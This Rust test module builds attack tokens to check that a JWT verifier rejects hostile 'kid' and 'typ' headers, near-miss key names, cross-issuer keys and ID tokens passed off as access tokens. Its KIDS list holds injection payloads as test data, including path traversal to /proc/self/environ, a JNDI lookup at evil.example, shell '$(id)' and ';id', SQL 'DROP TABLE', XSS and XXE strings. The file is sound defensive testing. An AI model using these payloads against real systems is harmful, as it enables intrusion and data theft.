//! `kid` and `typ`: names that are compared, and lead nowhere else.

use super::world::{PARTNER, Seeded, WIDE, claims, good, headed, header, keys, signers, text};
use super::{
    Attack, Expected, bearer, control, kind, parameter, ping, too_long, unknown_issuer, unknown_key, wrong_signature,
};

const KIDS: [&str; 74] = [
    "../../../../dev/null",
    "/dev/null",
    "/dev/fd/0",
    "/proc/self/environ",
    "..",
    ".",
    "/",
    "//",
    "../corp.json",
    "corp.json",
    "./corp.json",
    "corp.json#/keys/0",
    "C:\\Windows\\win.ini",
    "\\\\evil\\share",
    "..%2f..%2fdev%2fnull",
    "..%252f..%252fdev%252fnull",
    "%2e%2e/",
    "....//....//dev/null",
    "file:///dev/null",
    "http://169.254.169.254/",
    "https://evil.example/jwks.json",
    "ftp://evil.example",
    "gopher://127.0.0.1",
    "data:,",
    "ldap://evil.example/x",
    "${jndi:ldap://evil.example/x}",
    "${env:HOME}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "$(id)",
    "`id`",
    "|id",
    ";id",
    "&& id",
    "id > /tmp/x",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "x' UNION SELECT 'secret' --",
    "'; DROP TABLE keys; --",
    "1; SELECT pg_sleep(10)",
    "es256' AND SLEEP(5)--",
    "admin'/*",
    "*)(uid=*))(|(uid=*",
    "*",
    "%",
    "_",
    "?",
    ".*",
    "^es256$",
    "es256|ed",
    "[a-z0-9]+",
    "(a+)+$",
    "es256\0",
    "\0es256",
    "\0",
    "es256\n",
    "es256\r\nx: y",
    "\u{1b}[2J",
    "\u{9b}31m",
    "\u{202e}652se",
    "\u{feff}es256",
    "es256\u{200b}",
    "\u{17f}256",
    "<script>alert(1)</script>",
    "<!DOCTYPE x SYSTEM \"http://evil.example\">",
    "%s%s%s%n",
    "%x",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "0",
];

fn with_kid(value: &str) -> String {
    headed(&header(&[("kid", value)]))
}

/// A path, a query, a template, a pattern: to us a name that no key has (CVE-2018-0114's kin; RFC 8725 §3.10).
pub(super) fn kid_as_path_or_sql() -> Vec<Attack> {
    let mut attacks = vec![control(good())];
    for kid in KIDS {
        attacks.push(bearer(format!("{kid:?}"), with_kid(&text(kid)), unknown_key()));
        // In the good key's name's company, and signed by one who hopes that a fixed file is the secret.
        attacks.push(bearer(format!("es256 and {kid:?}"), with_kid(&text(&format!("es256{kid}"))), unknown_key()));
        let unsigned = with_kid(&text(kid));
        let signed = unsigned.rsplit_once('.').unwrap().0;
        attacks.push(bearer(format!("{kid:?}, zeros"), format!("{signed}.{}", "A".repeat(86)), unknown_key()));
    }
    for value in
        ["null", "7", "0", "-1", "true", "false", "{}", "[]", r#"["es256"]"#, r#"{"kid":"es256"}"#, r#""""#, "1e400"]
    {
        attacks.push(bearer(format!("of another type, {value}"), with_kid(value), parameter("kid")));
    }
    for (length, expected) in [
        (256, unknown_key()),
        (257, too_long("kid")),
        (1000, too_long("kid")),
        (2900, too_long("kid")),
        (65536, too_long("token")),
    ] {
        attacks.push(bearer(format!("of {length} bytes"), with_kid(&text(&"k".repeat(length))), expected));
    }
    attacks
}

/// Names that differ from a key's in one place, and names that nobody gave (each could cost a fetch of keys).
pub(super) fn kid_almost_right() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for key in signers() {
        let kid = key.kid.as_str();
        let with = |kid: &str| key.token(&header(&[("alg", &text(key.alg)), ("kid", &text(kid))]), &claims(&[]));
        attacks.push(bearer(kid, with(kid), Expected::Allow));
        let mut others =
            vec![kid.to_uppercase(), format!("{kid}{kid}"), format!(" {kid}"), format!("{kid} "), format!("\"{kid}\"")];
        for at in 0..kid.len() {
            let (before, after) = kid.split_at(at);
            others.extend([".", "-", "0", "A", "%00"].map(|more| format!("{before}{more}{after}")));
            others.push(format!("{before}{}", &after[1..]));
            others.push(format!("{before}\u{430}{}", &after[1..]));
        }
        others.retain(|other| !other.is_empty());
        attacks.extend(others.iter().map(|other| bearer(format!("{other:?} for {kid}"), with(other), unknown_key())));
    }
    let mut seeded = Seeded(7515);
    for _ in 0..200 {
        let length = 1 + (seeded.next() % 60) as usize;
        let kid = seeded.name(length);
        attacks.push(bearer(format!("nobody's, {kid}"), with_kid(&text(&kid)), unknown_key()));
    }
    attacks
}

/// Without a name the only key that fits is meant, and with two that fit none (CVE-2026-89313 took the last).
pub(super) fn kid_absent() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let without = |key: &crate::support::tokens::TestKey, alg: &str| {
        let signed = {
            let token = key.token(&header(&[("alg", &text(alg)), ("kid", "")]), &claims(&[]));
            token.rsplit_once('.').unwrap().0.to_owned()
        };
        let signature = key.sign_as(alg, signed.as_bytes());
        format!("{signed}.{}", crate::support::tokens::encode(signature))
    };
    for key in signers().into_iter().take(3) {
        attacks.push(bearer(format!("one {} key", key.alg), without(key, key.alg), Expected::Allow));
    }
    attacks.push(bearer("two RS256 keys", without(&keys().rsa, "RS256"), unknown_key()));
    for alg in ["RS384", "RS512", "PS256", "PS384", "PS512"] {
        attacks.push(bearer(format!("one key that can do {alg}"), without(&keys().rsa, alg), Expected::Allow));
    }
    for stranger in &keys().strangers {
        attacks.push(bearer(
            format!("a stranger's {}", stranger.alg),
            without(stranger, stranger.alg),
            wrong_signature(),
        ));
    }
    attacks
}

/// An issuer's keys verify its own tokens and nobody else's.
pub(super) fn kid_of_other_issuer() -> Vec<Attack> {
    let keys = keys();
    let mut attacks = Vec::new();
    let token = |key: &crate::support::tokens::TestKey, kid: &str, typ: &str, iss: &str, aud: &str| {
        key.token(&header(&[("kid", kid), ("typ", typ)]), &claims(&[("iss", iss), ("aud", aud)]))
    };
    let (corp, wide, partner) = (text(super::world::ISSUER), text(WIDE), text(PARTNER));
    let weather = text(super::AUDIENCE);
    let bank = text(super::world::BANK);
    let all = [
        ("corp", &keys.es256),
        ("wide", &keys.wide),
        ("partner", &keys.partner),
        ("namesake", &keys.namesake),
        ("stranger", &keys.strangers[0]),
    ];
    let names = ["es256", "wide-1", "partner-1", "ed", "nobody-s"];
    for (who, key) in all {
        for kid in names.map(text).iter().map(String::as_str).chain([""]) {
            for (iss, typ, own, own_name) in
                [(&corp, r#""at+jwt""#, "corp", "es256"), (&wide, r#""JWT""#, "wide", "wide-1")]
            {
                let expected = match kid.trim_matches('"') {
                    name if name.is_empty() || name == own_name => {
                        if who == own {
                            Expected::Allow
                        } else {
                            wrong_signature()
                        }
                    }
                    "ed" if own == "corp" => super::algorithm(),
                    _ => unknown_key(),
                };
                let text = token(key, kid, typ, iss, &weather);
                attacks.push(bearer(format!("{iss} by {who} as {kid}"), text, expected));
            }
            let elsewhere = token(key, kid, r#""at+jwt""#, &partner, &weather);
            attacks.push(bearer(format!("the partner's by {who} as {kid}"), elsewhere, unknown_issuer()));
            let mut at_the_bank = bearer(
                format!("at the bank by {who} as {kid}"),
                token(key, kid, r#""at+jwt""#, &corp, &bank),
                unknown_issuer(),
            );
            at_the_bank.ask = ping("bank").add("authorization", at_the_bank.carried.clone());
            attacks.push(at_the_bank);
        }
    }
    for (who, key, kid) in [("partner", &keys.partner, r#""partner-1""#), ("namesake", &keys.namesake, r#""es256""#)] {
        let mut own = bearer(
            format!("the bank's own by {who}"),
            token(key, kid, r#""at+jwt""#, &partner, &bank),
            Expected::Allow,
        );
        own.ask = ping("bank").add("authorization", own.carried.clone());
        attacks.push(own);
    }
    attacks
}

/// Types of other tokens that an issuer signs with the same keys (RFC 8725 §3.11): the registered ones, and writings.
const TYPES: [&str; 54] = [
    "JWT",
    "JOSE",
    "JOSE+JSON",
    "jwk+jwt",
    "dpop+jwt",
    "logout+jwt",
    "secevent+jwt",
    "oauth-authz-req+jwt",
    "token-introspection+jwt",
    "oauth-id-jag+jwt",
    "id-jag+jwt",
    "oauth-client-attestation+jwt",
    "oauth-client-attestation-pop+jwt",
    "client-authentication+jwt",
    "entity-statement+jwt",
    "trust-mark+jwt",
    "resolve-response+jwt",
    "kb+jwt",
    "dc+sd-jwt",
    "vc+sd-jwt",
    "example+sd-jwt",
    "vc+jwt",
    "vp+jwt",
    "wimse-id+jwt",
    "wit+jwt",
    "wpt+jwt",
    "txn_token+jwt",
    "txntoken+jwt",
    "openid4vci-proof+jwt",
    "key-attestation+jwt",
    "statuslist+jwt",
    "passport",
    "sip-identity",
    "mediation+jwt",
    "rs+jwt",
    "rt+jwt",
    "id+jwt",
    "it+jwt",
    "at",
    "at+",
    "+jwt",
    "at jwt",
    "at+jwts",
    "aat+jwt",
    "bat+jwt",
    "at+jwt+jwt",
    "at+jwt;q=1",
    "at+jwt, JWT",
    "at+jwt\0",
    "at+jwt ",
    " at+jwt",
    "at-jwt",
    "at%2Bjwt",
    "\u{430}t+jwt",
];

/// What is signed for another purpose is no access token, whatever is in it.
pub(super) fn other_token_types() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let with = |typ: &str| headed(&header(&[("typ", typ)]));
    for typ in TYPES {
        let writings = [
            typ.to_owned(),
            typ.to_uppercase(),
            format!("application/{typ}"),
            format!("Application/{typ}"),
            format!("text/{typ}"),
            format!("application/x-{typ}"),
        ];
        for writing in writings {
            attacks.push(bearer(format!("{writing:?}"), with(&text(&writing)), kind()));
        }
    }
    for typ in [
        "application/application/at+jwt",
        "application/",
        "application",
        "/at+jwt",
        "x/application/at+jwt",
        "application//at+jwt",
        "application/at+jwt/",
        "null",
    ] {
        attacks.push(bearer(format!("{typ:?}"), with(&text(typ)), kind()));
    }
    attacks.push(bearer("none", with(""), kind()));
    for typ in [r#""""#, "null", "7", "true", "{}", r#"["at+jwt"]"#] {
        attacks.push(bearer(typ, with(typ), parameter("typ")));
    }
    for typ in ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT"] {
        attacks.push(bearer(format!("{typ:?}"), with(&text(typ)), Expected::Allow));
    }
    attacks
}

/// An ID token has an audience and an issuer too, and is meant for the client (RFC 9068 §5).
pub(super) fn id_token_as_access_token() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let marks = ["nonce", "at_hash"];
    let values = [r#""x""#, "null", "7", r#""""#, "{}", "[]", "false"];
    let wide = text(WIDE);
    let by_wide = |typ: &str, more: (&str, &str)| {
        let header = header(&[("kid", r#""wide-1""#), ("typ", typ)]);
        keys().wide.token(&header, &claims(&[("iss", &wide), more]))
    };
    for typ in [r#""JWT""#, r#""jwt""#, r#""application/JWT""#, ""] {
        attacks.push(bearer(format!("no mark, {typ}"), by_wide(typ, ("x", "1")), Expected::Allow));
        for mark in marks {
            for value in values {
                attacks.push(bearer(format!("{mark} {value}, {typ}"), by_wide(typ, (mark, value)), kind()));
            }
        }
    }
    // Nothing after the slash is not the same as nothing, which this issuer may write.
    attacks.push(bearer("an empty media type", by_wide(r#""application/""#, ("x", "1")), kind()));
    attacks.push(bearer("at+jwt where JWT is expected", by_wide(r#""at+jwt""#, ("x", "1")), kind()));
    for mark in marks {
        for value in values {
            // The strict issuer's type already says what it is.
            let changed = claims(&[(mark, value)]);
            attacks.push(bearer(format!("{mark} {value}, at+jwt"), super::world::token(&changed), Expected::Allow));
            let untyped = keys().es256.token(&header(&[("typ", "")]), &changed);
            attacks.push(bearer(format!("{mark} {value}, no type, strict"), untyped, kind()));
            let plain = keys().es256.token(&header(&[("typ", r#""JWT""#)]), &changed);
            attacks.push(bearer(format!("{mark} {value}, JWT, strict"), plain, kind()));
        }
    }
    attacks
}
